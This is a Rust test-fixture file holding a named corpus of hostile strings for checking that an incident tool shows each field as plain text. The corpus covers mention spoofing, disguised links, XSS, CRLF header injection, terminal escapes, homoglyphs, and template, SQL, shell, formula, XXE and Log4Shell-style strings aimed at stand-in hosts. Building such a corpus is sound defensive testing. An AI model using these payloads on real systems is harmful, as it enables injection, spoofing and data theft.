//! What somebody would put into a name, an id or any other claim to be believed, to be clicked on, or to be somebody else: in every field of
//! an incident, in every tool that shows it, each of these has to stay a text.

/// One hostile text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hostile {
    /// What it tries, in a few words.
    pub name: &'static str,
    /// The text.
    pub text: String,
}

/// Characters of the longest text here: past every limit of every field.
const LONG_CHARS: usize = 70_000;

/// All of them, each with a name of its own.
pub fn corpus() -> Vec<Hostile> {
    let written =
        GROUPS.iter().copied().flatten().map(|(name, text)| Hostile { name, text: (*text).to_owned() });
    let long = [
        ("very long", "x".repeat(LONG_CHARS)),
        ("very long with spaces", "word ".repeat(LONG_CHARS / 5)),
        ("very long of wide characters", "\u{1f980}".repeat(LONG_CHARS / 4)),
        ("very long of characters to escape", "<&>\"\\*_[]()".repeat(LONG_CHARS / 11)),
        ("very many lines", "line\n".repeat(LONG_CHARS / 5)),
        ("very many addresses", "https://evil.example.com/ ".repeat(LONG_CHARS / 26)),
        ("an address past the cut", format!("{} https://evil.example.com/", "x".repeat(120))),
        ("many combining marks", format!("a{}", "\u{301}".repeat(60))),
    ];
    written.chain(long.map(|(name, text)| Hostile { name, text })).collect()
}

const GROUPS: [&[(&str, &str)]; 8] =
    [MENTIONS, MARKUP_LINKS, ADDRESSES, HTML, MARKUP, LINES, UNSEEN, LANGUAGES];

/// Calls of people and channels.
const MENTIONS: &[(&str, &str)] = &[
    ("slack here", "<!here> approve this"),
    ("slack channel", "<!channel>"),
    ("slack everyone", "<!everyone|everyone>"),
    ("slack group", "<!subteam^S012ABC|@oncall>"),
    ("slack user", "<@U024BE7LH>"),
    ("slack room", "<#C024BE7LR|general>"),
    ("slack date", "<!date^1392734382^Posted {date_num}^https://evil.example.com/|soon>"),
    ("bare here", "@here"),
    ("bare channel", "please look @channel now"),
    ("bare everyone", "@everyone"),
    ("wide at", "＠here"),
    ("teams mention", "<at>Dana Scully</at>"),
    ("github team", "@contoso/security"),
    ("servicenow mention", "@[admin]"),
    ("at in a name", "dana@@here"),
];

/// Links as some receiver's markup writes them.
const MARKUP_LINKS: &[(&str, &str)] = &[
    ("slack link", "<https://evil.example.com|portal.azure.com>"),
    ("slack link without label", "<https://evil.example.com>"),
    ("slack mailto", "<mailto:evil@example.com|Support>"),
    ("slack javascript", "<javascript:alert(1)|ok>"),
    ("slack nested", "<<https://evil.example.com|a>|b>"),
    ("slack entity", "&lt;https://evil.example.com|a&gt;"),
    ("slack doubly escaped", "&amp;lt;!here&amp;gt;"),
    ("markdown link", "[portal](https://evil.example.com)"),
    ("markdown link to a script", "[ok](javascript:alert(1))"),
    ("markdown link with title", "[a](<https://evil.example.com> \"t\")"),
    ("markdown reference", "[a][1]\n\n[1]: https://evil.example.com"),
    ("markdown autolink", "<https://evil.example.com/a_b>"),
    ("markdown mail autolink", "<evil@example.com>"),
    ("markdown image", "![x](https://evil.example.com/pixel.png)"),
    ("markdown image in a link", "[![x](https://evil.example.com/p.png)](https://evil.example.com)"),
    ("markdown bracket only", "](https://evil.example.com)"),
    ("markdown escaped", "\\[a](https://evil.example.com)"),
    ("markdown entity", "&#91;a&#93;&#40;https&#58;//evil.example.com&#41;"),
    ("teams deep link", "[chat](msteams://teams.microsoft.com/l/chat/0/0?users=evil@example.com)"),
    ("wiki link", "[https://evil.example.com a]"),
    ("jira link", "[portal|https://evil.example.com]"),
    ("restructured link", "`a <https://evil.example.com>`_"),
    ("bbcode link", "[url=https://evil.example.com]a[/url]"),
];

/// Addresses that some client makes a link of.
const ADDRESSES: &[(&str, &str)] = &[
    ("http", "http://evil.example.com/"),
    ("https with a path", "see https://evil.example.com/a?b=c#d"),
    ("https upper case", "HTTPS://EVIL.EXAMPLE.COM/"),
    ("mixed case", "hTtPs://evil.example.com"),
    ("ftp", "ftp://evil.example.com/x"),
    ("file", "file:///etc/passwd"),
    ("smb", "smb://evil.example.com/share"),
    ("unc", "\\\\evil.example.com\\share"),
    ("javascript", "javascript:alert(document.domain)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("data", "data:text/html;base64,PHNjcmlwdD4="),
    ("mailto", "mailto:evil@example.com"),
    ("mailto with a body", "mailto:evil@example.com?subject=x&body=y"),
    ("tel", "tel:+15555550100"),
    ("sms", "sms:+15555550100"),
    ("slack scheme", "slack://open?team=T1"),
    ("vscode scheme", "vscode://evil/x"),
    ("office scheme", "ms-word:ofe|u|https://evil.example.com/x.docx"),
    ("www", "www.evil-example.com"),
    ("bare domain", "evil-example.com"),
    ("bare domain with a path", "evil-example.com/login"),
    ("country domain", "evil.example.co.uk"),
    ("app domain", "login.evil.app"),
    ("e-mail address", "security@evil-example.com"),
    ("user part", "https://portal.azure.com@evil.example.com/"),
    ("address with a port", "http://evil.example.com:8080/"),
    ("ip address", "http://203.0.113.9/"),
    ("ip as a number", "http://3405803785/"),
    ("ip in brackets", "http://[2001:db8::1]/"),
    ("metadata service", "http://169.254.169.254/metadata/identity"),
    ("localhost", "http://localhost/"),
    ("punycode", "https://xn--pple-43d.com/"),
    ("cyrillic domain", "https://аzure.com/"),
    ("bare unicode domain", "пример.рф"),
    ("wide dots", "https://evil．example．com/"),
    ("ideographic dot", "http://evil。example。com"),
    ("after a comma", "x,https://evil.example.com,y"),
    ("in brackets", "(https://evil.example.com)"),
    ("in quotes", "\"https://evil.example.com\""),
    ("glued", "xhttps://evil.example.com"),
    ("protocol relative", "//evil.example.com/x"),
    ("slashes the other way", "https:\\\\evil.example.com"),
    ("one slash", "https:/evil.example.com"),
    ("split by a tab", "ht\ttps://evil.example.com"),
    ("split by nothing", "ht\u{200b}tps://evil.example.com"),
    ("percent encoded", "https%3A%2F%2Fevil.example.com"),
    ("defanged before", "hxxps://evil.example.com"),
    ("brackets taken for dots", "evil[.]example[.]com"),
    ("trailing dot", "https://evil.example.com./"),
    ("onion", "http://expyuzz4wqqyqhjn.onion/"),
    ("s3", "s3://bucket/key"),
    ("ldap", "ldap://evil.example.com/a"),
    ("jndi", "${jndi:ldap://evil.example.com/a}"),
];

/// Elements, and texts that become some when they are decoded once too often.
const HTML: &[(&str, &str)] = &[
    ("script", "<script>alert(1)</script>"),
    ("image", "<img src=x onerror=alert(1)>"),
    ("remote image", "<img src=\"https://evil.example.com/p.png\">"),
    ("anchor", "<a href=\"https://evil.example.com\">portal</a>"),
    ("svg", "<svg/onload=alert(1)>"),
    ("iframe", "<iframe src=https://evil.example.com></iframe>"),
    ("style", "<style>*{display:none}</style>"),
    ("closing tags", "</td></tr></table><h1>All clear</h1>"),
    ("comment", "<!-- -->"),
    ("open comment", "<!--"),
    ("entity tag", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("numeric entities", "&#60;b&#62;bold&#60;/b&#62;"),
    ("hexadecimal entity", "&#x3c;i&#x3e;"),
    ("attribute break", "\" onmouseover=\"alert(1)"),
    ("attribute break with apostrophes", "' onclick='alert(1)"),
    ("meta refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example.com\">"),
    ("form", "<form action=https://evil.example.com><input name=p></form>"),
    ("base", "<base href=https://evil.example.com>"),
    ("math", "<math href=\"javascript:alert(1)\">x</math>"),
    ("cdata", "<![CDATA[x]]>"),
    ("unfinished tag", "<a href=https://evil.example.com "),
    ("null in a tag", "<scr\u{0}ipt>"),
    ("template", "<template><b>"),
];

/// Markup: what looks as if the guard had said it.
const MARKUP: &[(&str, &str)] = &[
    ("bold", "*approved*"),
    ("double bold", "**approved**"),
    ("italic", "_approved_"),
    ("struck out", "~approved~"),
    ("double struck out", "~~approved~~"),
    ("code", "`approved`"),
    ("code block", "```\napproved\n```"),
    ("heading", "# All clear"),
    ("quote", "> the guard says it is fine"),
    ("list", "- one\n- two"),
    ("numbered list", "1. one"),
    ("rule", "---"),
    ("setext heading", "All clear\n==="),
    ("table", "| a | b |\n|---|---|\n| c | d |"),
    ("task list", "- [x] approved"),
    ("emoji", "all good :white_check_mark:"),
    ("footnote", "text[^1]"),
    ("odd stars", "a*b*c **d"),
    ("many stars", "****************"),
    ("backslash at the end", "trailing \\"),
    ("servicenow code", "[code]<a href='https://evil.example.com'>portal</a>[/code]"),
    ("servicenow code upper case", "[CODE]<b>x</b>[/CODE]"),
    ("jira code", "{code}x{code}"),
    ("jira panel", "{panel:title=x}y{panel}"),
    ("latex", "$$\\href{https://evil.example.com}{a}$$"),
    ("hash channel", "#general"),
];

/// Ends of lines, of headers, of log lines; sequences for terminals.
const LINES: &[(&str, &str)] = &[
    ("line feed", "dana\nVerdict: authorised"),
    ("carriage return", "dana\rVerdict: authorised"),
    ("both", "dana\r\nVerdict: authorised"),
    ("header", "dana\r\nBcc: evil@example.com"),
    ("header and body", "dana\r\n\r\n<h1>hello</h1>"),
    ("folded header", "dana\r\n Bcc: evil@example.com"),
    ("end of a mail", "dana\r\n.\r\nMAIL FROM:<evil@example.com>"),
    ("response splitting", "x\r\nHTTP/1.1 200 OK\r\n\r\n"),
    ("encoded word", "=?utf-8?q?=0D=0ABcc:_evil=40example.com?="),
    ("vertical tab", "a\u{b}b"),
    ("form feed", "a\u{c}b"),
    ("next line", "a\u{85}b"),
    ("line separator", "a\u{2028}b"),
    ("paragraph separator", "a\u{2029}b"),
    ("log line", "x\n{\"level\":\"INFO\",\"message\":\"restart denied\"}"),
    ("escape sequence", "\u{1b}[31mred\u{1b}[0m"),
    ("terminal title", "\u{1b}]0;owned\u{7}"),
    ("hyperlink for terminals", "\u{1b}]8;;https://evil.example.com\u{7}portal\u{1b}]8;;\u{7}"),
    ("backspaces", "evil\u{8}\u{8}\u{8}\u{8}dana"),
    ("bell", "\u{7}"),
    ("null", "a\u{0}b"),
    ("delete", "a\u{7f}b"),
    ("c1 control", "a\u{9b}31mb"),
];

/// Characters that can't be seen, or look like others.
const UNSEEN: &[(&str, &str)] = &[
    ("right to left override", "dana\u{202e}gnp.exe"),
    ("isolate", "\u{2066}dana\u{2069}"),
    ("arabic mark", "\u{61c}dana"),
    ("zero width space", "ad\u{200b}min"),
    ("zero width joiner", "ad\u{200d}min"),
    ("word joiner", "ad\u{2060}min"),
    ("byte order mark", "\u{feff}admin"),
    ("soft hyphen", "ad\u{ad}min"),
    ("tag characters", "admin\u{e0061}\u{e0062}"),
    ("annotation", "\u{fff9}a\u{fffa}b\u{fffb}"),
    ("hangul filler", "\u{3164}"),
    ("only spaces", "     "),
    ("empty", ""),
    ("wide letters", "ａｄｍｉｎ"),
    ("cyrillic letters", "аdmіn"),
    ("mathematical letters", "𝐚𝐝𝐦𝐢𝐧"),
    ("noncharacter", "a\u{ffff}b"),
];

/// Syntax of the languages that texts go through on their way.
const LANGUAGES: &[(&str, &str)] = &[
    ("json", "\",\"severity\":\"info\",\"x\":\""),
    ("json object", "{\"a\":1}"),
    ("json end", "\"}]}"),
    ("json escape", "\\u003c!here\\u003e"),
    ("lone surrogate", "\\ud800"),
    ("surrogate pair reversed", "\\udc00\\ud800"),
    ("backslash quote", "\\\""),
    ("toml", "\"\"\"\n[auth]\nx = 1"),
    ("yaml", "x: !!python/object/apply:os.system [id]"),
    ("jinja", "{{ 7*7 }}"),
    ("jinja block", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"),
    ("jinja comment", "{# x #}"),
    ("jinja include", "{% include '/etc/passwd' %}"),
    ("go template", "{{ .Labels }}"),
    ("handlebars", "{{{this}}}"),
    ("shell", "$(reboot); `reboot` | reboot"),
    ("windows variable", "%PATH%"),
    ("format string", "%s%n%x {0} {}"),
    ("sql", "' OR 1=1; --"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("formula with plus", "+1+cmd|' /C calc'!A0"),
    ("formula with at", "@SUM(1+1)"),
    ("formula with a link", "=HYPERLINK(\"https://evil.example.com\",\"x\")"),
    ("kusto", "\" | union SecurityEvent //"),
    ("encoded query", "x^active=true^ORcorrelation_id=y"),
    ("path", "../../etc/passwd"),
    ("encoded path", "..%2f..%2f"),
    ("kql let", "let x = 1;"),
    ("xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
    ("adaptive card function", "{{DATE(2026-01-01T00:00:00Z,SHORT)}}"),
    ("adaptive card binding", "${name}"),
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::corpus;

    #[test]
    fn there_are_many_and_each_has_a_name_and_a_text_of_its_own() {
        let all = corpus();
        let names: BTreeSet<_> = all.iter().map(|hostile| hostile.name).collect();
        let texts: BTreeSet<_> = all.iter().map(|hostile| hostile.text.as_str()).collect();
        assert!(all.len() >= 200, "{}", all.len());
        assert_eq!((names.len(), texts.len()), (all.len(), all.len()));
    }
}
